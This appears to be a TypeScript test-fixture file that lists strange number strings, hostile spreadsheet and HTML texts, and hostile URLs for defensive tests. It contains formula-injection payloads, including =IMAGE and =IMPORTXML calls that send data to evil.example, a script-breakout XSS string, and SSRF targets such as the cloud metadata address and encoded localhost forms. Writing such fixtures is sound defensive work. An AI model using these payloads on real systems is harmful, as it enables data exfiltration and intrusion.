/** Texts and addresses that must do no harm: cases 22, 43, 45, 56 and 57. */

export const STRANGE_NUMBERS: readonly (string | null)[] = [
  '1,234.50',
  '￥12',
  '$3.25',
  '12%',
  '1e3',
  ' 7 ',
  '-',
  'N/A',
  '',
  null,
];

export const HOSTILE_TEXTS: readonly string[] = [
  '=IMAGE("https://evil.example/?"&A1)',
  '=IMPORTXML("https://evil.example","//a")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1+1',
  ' =1+1',
  '\u200B=1+1',
  "'00123",
  'TRUE',
  '</script><img src=x onerror=alert(1)>',
  '\u202Eevil',
  '\uD800',
];

export const HOSTILE_ADDRESSES: readonly string[] = [
  'http://files.example/a.csv',
  'data:text/csv,a',
  'https://localhost/a.csv',
  'https://127.0.0.1/a.csv',
  'https://10.1.2.3/a.csv',
  'https://192.168.0.1/a.csv',
  'https://169.254.169.254/latest/meta-data',
  'https://metadata.google.internal/a',
  'https://2130706433/a.csv',
  'https://0177.0.0.1/a.csv',
  'https://0x7f000001/a.csv',
  'https://[::1]/a.csv',
  'https://[::ffff:127.0.0.1]/a.csv',
  'https://user@files.example/a.csv',
  'https://files.example%00.evil.example/a.csv',
  'javascript:alert(1)',
];
